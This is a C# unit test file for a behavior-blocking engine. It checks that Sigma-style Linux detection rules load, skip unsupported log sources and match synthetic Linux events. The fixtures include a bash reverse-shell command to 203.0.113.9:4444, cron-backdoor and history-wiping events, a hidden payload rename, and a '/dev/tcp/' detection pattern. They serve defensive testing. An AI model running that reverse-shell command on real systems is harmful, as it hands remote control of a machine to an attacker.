using System;
using System.Collections.Generic;
using System.IO;
using System.Linq;
using BehaviorBlocking.Detections;
using BehaviorBlocking.Events;
using BehaviorBlocking.Rules;
using BehaviorBlocking.Sensors.Linux;

namespace BehaviorBlocking.Tests.Rules
{
    /// <summary>Sigma's product linux: the categories the Linux sensors feed load and match Linux events; services are skipped naming the source.</summary>
    public sealed class LinuxLogsourceTests : IDisposable
    {
        private static readonly string SigmaLinux = Path.Combine(TestPaths.RepositoryRoot, "tests", "data", "sigma-linux");
        private readonly RuleTestKit _kit = new RuleTestKit();

        public void Dispose() => _kit.Dispose();

        private static RuleSet LoadSigmaLinux() => RuleSet.Load(new[] { new RuleSource(SigmaLinux, "sigma-linux") });

        private static string Id(int n) => "0b2f7c5e-6a1d-4c3e-9f7a-2d8e1b4c6a" + n.ToString("D2");

        private BehaviorEvent Linux(int eventId, double seconds, params (string Name, string Value)[] fields) =>
            _kit.Event(LinuxEvents.Channel, eventId, seconds, fields);

        private BehaviorEvent Exec(double seconds, int pid, string image, string commandLine, string parentImage = "/usr/bin/bash",
            string user = "alice", string cwd = "/home/alice", string parentCommandLine = "-bash", string channel = LinuxEvents.Channel) =>
            _kit.Event(channel, LinuxEvents.ProcessCreate, seconds,
                ("ProcessGuid", LinuxGuid(pid)), ("ProcessId", pid.ToString()), ("Image", image), ("CommandLine", commandLine),
                ("CurrentDirectory", cwd), ("User", user), ("ParentProcessGuid", LinuxGuid(pid - 1)), ("ParentProcessId", (pid - 1).ToString()),
                ("ParentImage", parentImage), ("ParentCommandLine", parentCommandLine));

        private static string LinuxGuid(int pid) => "{6f1c2a3b-0000-0000-0000-" + pid.ToString("D12") + "}";

        [Fact]
        public void Load_SigmaHqShapedLinuxRules_CategoriesLoadServicesAndUnfedCategoriesAreSkippedNamingTheSource()
        {
            RuleSet rules = LoadSigmaLinux();

            Assert.Equal(7, rules.Rules.Count);
            Assert.Equal(3, rules.Skipped.Count);
            string Reason(string file) => rules.Skipped.Single(s => Path.GetFileName(s.File) == file).Reason;
            Assert.Contains("product 'linux' service 'auditd'", Reason("lnx_auditd_shadow_read.yml"));
            Assert.Contains("no sensor reads the auditd log", Reason("lnx_auditd_shadow_read.yml"));
            Assert.Contains("service 'sshd'", Reason("lnx_sshd_failed_logins.yml"));
            Assert.Contains("category 'file_access'", Reason("file_access_lnx_shadow.yml"));
            Assert.Contains("file_delete, file_event, file_rename, network_connection, process_creation, process_termination", Reason("file_access_lnx_shadow.yml"));

            // SigmaHQ's hyphenated tactics and the split of Defense Evasion read as the product's tactics.
            Assert.Equal(Tactic.CommandAndControl, rules.Rules.Single(r => r.Id == Id(4)).Tactic);
            Assert.Equal(Tactic.DefenseEvasion, rules.Rules.Single(r => r.Id == Id(5)).Tactic);
            Assert.Equal(Tactic.DefenseEvasion, rules.Rules.Single(r => r.Id == Id(6)).Tactic);
        }

        [Theory]
        [InlineData("auditd")]
        [InlineData("syslog")]
        [InlineData("sshd")]
        [InlineData("sudo")]
        [InlineData("auth")]
        [InlineData("cron")]
        [InlineData("clamav")]
        [InlineData("guacamole")]
        [InlineData("vsftpd")]
        public void Load_LinuxServiceRule_IsSkippedNamingTheService(string service)
        {
            RuleSet rules = _kit.Write("s.yml", RuleTestKit.Rule("s", "service: " + service, "  sel:\n    - 'x'\n  condition: sel").Replace("product: windows", "product: linux")).Load();

            Assert.Empty(rules.Rules);
            Assert.Contains($"product 'linux' service '{service}' has no events in this engine", Assert.Single(rules.Skipped).Reason);
        }

        [Fact]
        public void Load_ModsecurityProduct_IsSkippedNamingTheProduct()
        {
            RuleSet rules = _kit.Write("m.yml", "title: m\nid: m\nlogsource:\n  product: modsecurity\ndetection:\n  k:\n    - 'x'\n  condition: k\n").Load();

            Assert.Contains("product 'modsecurity'", Assert.Single(rules.Skipped).Reason);
        }

        [Fact]
        public void Match_SigmaHqShapedLinuxRules_MatchTheirLinuxEventsAndNameLinuxDetections()
        {
            RuleSet rules = LoadSigmaLinux();
            var events = new[]
            {
                Exec(1, 100, "/usr/bin/bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
                Exec(2, 201, "/usr/bin/dash", "sh -c id", parentImage: "/tmp/.x/update", user: "www-data", cwd: "/tmp/.x", parentCommandLine: "/tmp/.x/update --daemon"),
                Linux(LinuxEvents.FileCreate, 3, ("ProcessGuid", LinuxGuid(300)), ("ProcessId", "300"), ("Image", "/usr/bin/cp"), ("TargetFilename", "/etc/cron.d/backdoor")),
                Linux(LinuxEvents.NetworkConnect, 4, ("ProcessGuid", LinuxGuid(100)), ("ProcessId", "100"), ("Image", "/usr/bin/bash"), ("Protocol", "tcp"),
                    ("Initiated", "true"), ("SourceIp", "10.0.0.5"), ("SourcePort", "40000"), ("DestinationIp", "203.0.113.9"), ("DestinationPort", "4444")),
                Linux(LinuxEvents.FileDelete, 5, ("ProcessGuid", LinuxGuid(400)), ("ProcessId", "400"), ("Image", "/usr/bin/rm"), ("TargetFilename", "/home/alice/.bash_history")),
                Linux(LinuxEvents.FileRename, 6, ("ProcessGuid", LinuxGuid(500)), ("ProcessId", "500"), ("Image", "/usr/bin/mv"),
                    ("SourceFilename", "/tmp/payload"), ("TargetFilename", "/tmp/.cache-x")),
                Linux(LinuxEvents.ProcessTerminate, 7, ("ProcessGuid", LinuxGuid(600)), ("ProcessId", "600"), ("Image", "/dev/shm/miner")),
            };

            for (int i = 0; i < events.Length; i++)
            {
                Assert.Equal(new[] { Id(i + 1) }, RuleTestKit.Matches(rules, events[i]));
            }

            List<Detection> detections = RuleTestKit.Run(rules, events);
            Assert.NotEmpty(detections);
            Assert.All(detections, d => Assert.StartsWith("Behavior:Linux/", d.Name, StringComparison.Ordinal));
            Assert.All(detections, d => Assert.Equal(DetectionPlatform.Linux, d.Platform));
            Assert.Contains(detections, d => d.Name.StartsWith("Behavior:Linux/Execution.", StringComparison.Ordinal) && d.Name.EndsWith("!rule", StringComparison.Ordinal));
        }

        [Fact]
        public void Match_FileEvent_SeesAFileThatAppearsByRenameUnderItsNewName()
        {
            RuleSet rules = LoadSigmaLinux();

            BehaviorEvent renamed = Linux(LinuxEvents.FileRename, 1, ("ProcessGuid", LinuxGuid(300)), ("ProcessId", "300"), ("Image", "/usr/bin/mv"),
                ("SourceFilename", "/home/alice/job"), ("TargetFilename", "/var/spool/cron/crontabs/alice"));
            BehaviorEvent renamedAway = Linux(LinuxEvents.FileRename, 2, ("ProcessGuid", LinuxGuid(300)), ("ProcessId", "300"), ("Image", "/usr/bin/mv"),
                ("SourceFilename", "/etc/cron.d/old"), ("TargetFilename", "/root/old"));

            Assert.Equal(new[] { Id(3) }, RuleTestKit.Matches(rules, renamed));
            Assert.Empty(RuleTestKit.Matches(rules, renamedAway));
        }

        [Fact]
        public void Match_SysmonForLinuxRecording_MatchesTheSameRules()
        {
            RuleSet rules = LoadSigmaLinux();

            BehaviorEvent e = Exec(1, 100, "/usr/bin/bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", channel: LinuxEvents.SysmonForLinuxChannel);

            Assert.Equal(new[] { Id(1) }, RuleTestKit.Matches(rules, e));
        }

        [Fact]
        public void Match_ProcessCreationFields_ReadTheLinuxEvent()
        {
            RuleSet rules = _kit.Write("f.yml", RuleTestKit.Rule("f", "category: process_creation",
                    "  sel:\n    Image: '/opt/tool/run'\n    CommandLine: 'run --now'\n    ParentImage: '/usr/sbin/sshd'\n    User: 'bob'\n" +
                    "    CurrentDirectory: '/srv'\n    ParentCommandLine: 'sshd: bob'\n    ProcessId: '77'\n    ParentProcessId: '76'\n  condition: sel")
                .Replace("product: windows", "product: linux")).Load();

            BehaviorEvent e = Exec(1, 77, "/opt/tool/run", "run --now", parentImage: "/usr/sbin/sshd", user: "bob", cwd: "/srv", parentCommandLine: "sshd: bob");
            BehaviorEvent other = Exec(1, 77, "/opt/tool/run", "run --now", parentImage: "/usr/sbin/sshd", user: "root", cwd: "/srv", parentCommandLine: "sshd: bob");

            Assert.Equal(new[] { "f" }, RuleTestKit.Matches(rules, e));
            Assert.Empty(RuleTestKit.Matches(rules, other));
        }

        [Fact]
        public void Match_WindowsRulesIgnoreLinuxEventsAndLinuxRulesIgnoreWindowsEvents()
        {
            const string detection = "  sel:\n    CommandLine|contains: '/dev/tcp/'\n  condition: sel";
            RuleSet rules = _kit
                .Write("win.yml", RuleTestKit.Rule("win", "category: process_creation", detection))
                .Write("noproduct.yml", RuleTestKit.Rule("noproduct", "category: process_creation", detection).Replace("  product: windows\n", string.Empty))
                .Write("lnx.yml", RuleTestKit.Rule("lnx", "category: process_creation", detection).Replace("product: windows", "product: linux"))
                .Write("winfile.yml", RuleTestKit.Rule("winfile", "category: file_event", "  sel:\n    TargetFilename|contains: 'cron'\n  condition: sel"))
                .Write("lnxfile.yml", RuleTestKit.Rule("lnxfile", "category: file_event", "  sel:\n    TargetFilename|contains: 'cron'\n  condition: sel").Replace("product: windows", "product: linux"))
                .Load();
            Assert.Empty(rules.Skipped);

            BehaviorEvent linux = Exec(1, 100, "/usr/bin/bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1");
            BehaviorEvent windows = _kit.ProcessStart(1, 100, @"C:\tools\bash.exe", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1");
            BehaviorEvent linuxFile = Linux(LinuxEvents.FileCreate, 2, ("ProcessGuid", LinuxGuid(300)), ("ProcessId", "300"), ("Image", "/usr/bin/cp"), ("TargetFilename", "/etc/cron.d/x"));
            BehaviorEvent windowsFile = _kit.Event("Microsoft-Windows-Sysmon/Operational", 11, 2, ("ProcessGuid", "{00000000-0000-0000-0000-000000000300}"),
                ("ProcessId", "300"), ("Image", @"C:\x\cp.exe"), ("TargetFilename", @"C:\cron\x"));

            Assert.Equal(new[] { "lnx" }, RuleTestKit.Matches(rules, linux));
            Assert.Equal(new[] { "noproduct", "win" }, RuleTestKit.Matches(rules, windows).OrderBy(s => s, StringComparer.Ordinal));
            Assert.Equal(new[] { "lnxfile" }, RuleTestKit.Matches(rules, linuxFile));
            Assert.Equal(new[] { "winfile" }, RuleTestKit.Matches(rules, windowsFile));
        }
    }
}
